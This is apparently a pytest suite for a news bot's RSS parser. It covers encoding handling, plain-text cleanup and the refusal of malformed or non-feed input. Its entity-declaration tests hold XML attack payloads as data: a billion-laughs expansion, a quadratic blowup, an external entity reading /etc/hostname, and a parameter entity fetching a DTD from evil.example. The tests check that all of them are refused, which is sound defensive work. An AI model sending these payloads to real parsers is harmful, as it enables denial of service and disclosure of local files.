"""Foreign bytes and markup: encodings, declarations, plain text."""

from __future__ import annotations

import time

import pytest
from servers.feeds import item, only, parse, rss

from newsbot.errors import ParseError
from newsbot.stages.markup import attributes

# Text


@pytest.mark.parametrize(
    ("title", "plain"),
    [
        ("a &lt;b&gt;x&lt;/b&gt; c", "a x c"),
        ("<![CDATA[AT&T kauft A&amp;B]]>", "AT&T kauft A&B"),
        ("AT&amp;amp;T", "AT&T"),
        ("AT&T", "AT&T"),
        ("a&lt;b &amp;&amp; c", "a<b && c"),
        ("M&uuml;nchen", "München"),
        ("Mu\u0308nchen", "München"),
        ("&#x4d;&#252;nchen", "München"),
        ("a\u202eb\u2066c\u200bd\ufefff\u00adg\U000e0041h", "abcdfgh"),
        ("a&#x202e;b", "ab"),
        ("zwei\n\t  Zeilen\u00a0hier", "zwei Zeilen hier"),
        ("a&#0;b&#xD800;c&#99999999999;d", "a\ufffdb\ufffdc\ufffdd"),
        ("o" + "\u0301" * 100, "ó" + "\u0301" * 4),
        ("x" * 600, "x" * 500),
        ("😀 &lt;i&gt;Bot&lt;/i&gt;", "😀 Bot"),
    ],
)
def test_titles_are_plain_text(title, plain):
    """Markup and references are read, invisible characters removed, length bounded."""
    assert only(rss(item(title=title))).title == plain


def test_summaries_are_bounded():
    """Five thousand characters, however much markup there is."""
    more = f"<description>{'&lt;p&gt;Wort &lt;/p&gt;' * 5000}</description>"
    summary = only(rss(item(more=more))).summary
    assert summary.startswith("Wort Wort")
    assert 4_900 < len(summary) <= 5_000


GERMAN = "Grüße: Straße für 5 € – „Köln“"


@pytest.mark.parametrize(
    ("encoding", "declared", "content_type", "mark"),
    [
        ("utf-8", "utf-8", "text/xml", b""),
        ("utf-8", "utf-8", "text/xml", b"\xef\xbb\xbf"),
        ("utf-8", "iso-8859-1", "text/xml; charset=iso-8859-1", b""),
        ("utf-8", "", "text/html", b""),
        ("cp1252", "utf-8", "text/xml; charset=utf-8", b""),
        ("cp1252", "iso-8859-1", "", b""),
        ("cp1252", "windows-1252", "application/xml", b""),
        ("cp1252", "nonsense", "text/xml; charset=utf-7", b""),
        ("utf-16-le", "utf-16", "application/xml", b"\xff\xfe"),
        ("utf-16-be", "utf-16", "application/xml", b"\xfe\xff"),
        ("utf-16-le", "utf-16", "application/xml; charset=utf-8", b""),
        ("utf-16-be", "", "", b""),
        ("utf-32-le", "utf-32", "", b"\xff\xfe\0\0"),
        ("utf-32-be", "utf-32", "", b""),
        ("gb18030", "gb2312", "", b""),
    ],
)
def test_german_text_survives_wrong_declarations(
    encoding, declared, content_type, mark
):
    """Umlauts and quotes arrive, whatever the headers claim (RFC 7303, 3)."""
    declaration = f"<?xml version='1.0' encoding='{declared}'?>" if declared else ""
    body = mark + rss(item(title=GERMAN), declaration=declaration).encode(encoding)
    assert only(body, content_type=content_type).title == GERMAN


def test_iso_8859_15_is_read_as_declared():
    """Where the declared encoding fits, its euro sign counts."""
    body = rss(
        item(title="5 € für Köln"),
        declaration="<?xml version='1.0' encoding='iso-8859-15'?>",
    ).encode("iso-8859-15")
    assert only(body).title == "5 € für Köln"


def test_stray_bytes_do_not_spoil_the_rest():
    """One wrong byte in UTF-8, a NUL, a surrogate: the text around them stays."""
    body = (
        rss(item(title="Köln X Y Z"))
        .encode()
        .replace(b"X", b"\xfc")
        .replace(b"Y", b"\x00\x01")
        .replace(b"Z", b"\xed\xa0\x80")
    )
    assert only(body).title.startswith("Köln ü ")


# What is refused


LAUGHS = """<!DOCTYPE rss [
 <!ENTITY a "haha"> <!ENTITY b "&a;&a;&a;&a;"> <!ENTITY c "&b;&b;&b;&b;">]>"""
QUADRATIC = f'<!DOCTYPE rss [\n<!ENTITY a "{"a" * 10_000}">\n]>'
EXTERNAL = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"]
)
@pytest.mark.parametrize(
    "doctype",
    [
        LAUGHS,
        QUADRATIC,
        EXTERNAL,
        '<!DOCTYPE rss SYSTEM "a>b" [<!ENTITY x "y">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        "<!doctype rss [<!entity x 'y'>]>",
        '<!-- <rss> --><!DOCTYPE rss [<!ENTITY x "y">]>',
        "<!DOCTYPE rss []>",
        '<!ENTITY x "<rss>">',
    ],
)
def test_entity_declarations_are_refused(encoding, doctype):
    """However they are written and encoded, nothing expands and nothing is read."""
    for declaration in ("", "<?xml version='1.0'?>", "<?xml version='1.0'?>\n\n"):
        body = rss(item(title="&a;" * 1_000), declaration=declaration + doctype)
        with pytest.raises(ParseError, match="entity declarations not accepted"):
            parse(body.encode(encoding))


def test_hidden_declarations_declare_nothing():
    """In an odd codec, a comment, or past the root, a declaration has no effect."""
    started = time.monotonic()
    declaration = QUADRATIC.replace("<!DOCTYPE rss [", "<!--\n<!DOCTYPE rss>").replace(
        "]>", "-->"
    )
    assert (
        len(only(rss(item(title="&a;" * 20_000), declaration=declaration)).title) <= 500
    )
    for encoding in ("utf-7", "cp037", "utf-16-le"):
        body = rss(
            item(title="&a;"),
            declaration=f"<?xml version='1.0' encoding='{encoding}'?>{LAUGHS}",
        )
        with pytest.raises(ParseError):
            parse(body.encode(encoding), content_type=f"text/xml; charset={encoding}")
    inner = rss(item(), head=f"<title>x</title>{EXTERNAL}")
    assert "hostname" not in repr(parse(inner).title)
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    ],
)
def test_a_plain_doctype_is_fine(doctype):
    """Without declarations a DOCTYPE is passed over; its DTD is not loaded."""
    assert (
        only(
            rss(
                item(title="M&uuml;ller"),
                declaration=f"<?xml version='1.0'?>\n{doctype}\n",
            )
        ).title
        == "Müller"
    )


def test_writing_about_entities_is_allowed():
    """An article that quotes a declaration is no declaration."""
    more = "<description><![CDATA[<pre>&lt;!ENTITY a &quot;b&quot;&gt;</pre> <!ENTITY x>]]></description>"
    assert "<!ENTITY a" in only(rss(item(more=more))).summary


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty answer"),
        (b" \n\t", "empty answer"),
        (b"\xef\xbb\xbf", "empty answer"),
        (b"\x00" * 100, "empty answer"),
        (
            b"<!DOCTYPE html><html><head><title>Login</title></head><body></body></html>",
            "this is an HTML page, not a feed",
        ),
        (b"<html><body><rss></rss></body></html>", "this is an HTML page, not a feed"),
        (
            b"<?xml version='1.0'?><!DOCTYPE html PUBLIC 'x' 'y'>\n<html xmlns='http://www.w3.org/1999/xhtml'/>",
            "this is an HTML page, not a feed",
        ),
        (b"\n<!-- x --><HTML>", "this is an HTML page, not a feed"),
        (b"/etc/hostname", "no feed found"),
        (b"https://news.example/feed", "no feed found"),
        (
            b'{"version": "https://jsonfeed.org/version/1.1"}',
            "a JSON document without items, not a feed",
        ),
        (b"<svg/>", "no feed found"),
        (b"<urlset/>", "no feed found"),
        (b"%PDF-1.7", "no feed found"),
        (b"\x1f\x8b\x08\x00", "no feed found"),
        (b"<rss", "damaged before its first entry"),
        (
            b"<rss x='" + b"a" * 11_000_000 + b"'><channel><item/></channel></rss>",
            "damaged before its first entry",
        ),
    ],
)
def test_what_is_no_feed_says_what_it_is(body, reason):
    """One plain line instead of a feed without entries."""
    with pytest.raises(ParseError) as caught:
        parse(body)
    assert reason in str(caught.value)
    assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize(
    ("inside", "read"),
    [
        (
            "rel=\"alternate\" href='/feed' hidden",
            {"rel": "alternate", "href": "/feed"},
        ),
        ("HREF = /a?b=c&amp;d rel=x", {"href": "/a?b=c&d", "rel": "x"}),
        ("data-x-href=1 xlink:href='2' /", {"data-x-href": "1", "xlink:href": "2"}),
        ("a b=\"c\"d='e' f= g", {"b": "c", "d": "e", "f": "g"}),
        ('= x="unclosed', {}),
        ("x", {}),
    ],
)
def test_attributes_are_read_as_browsers_do(inside, read):
    """Quoted, bare, without a value, without a space, in any case."""
    assert attributes(inside) == read


@pytest.mark.parametrize(
    "inside", ["a" * 4_000, "a=" * 2_000, 'a="' * 1_333, "a " * 2_000]
)
def test_attributes_take_time_as_their_length(inside):
    """Ten times as long a tag takes about ten times as long, and not a hundred."""

    def seconds(text):
        started = time.process_time()
        for _ in range(200):
            attributes(text)
        return time.process_time() - started

    short = min(seconds(inside[:400]) for _ in range(3))
    assert min(seconds(inside) for _ in range(2)) < 40 * short + 0.02
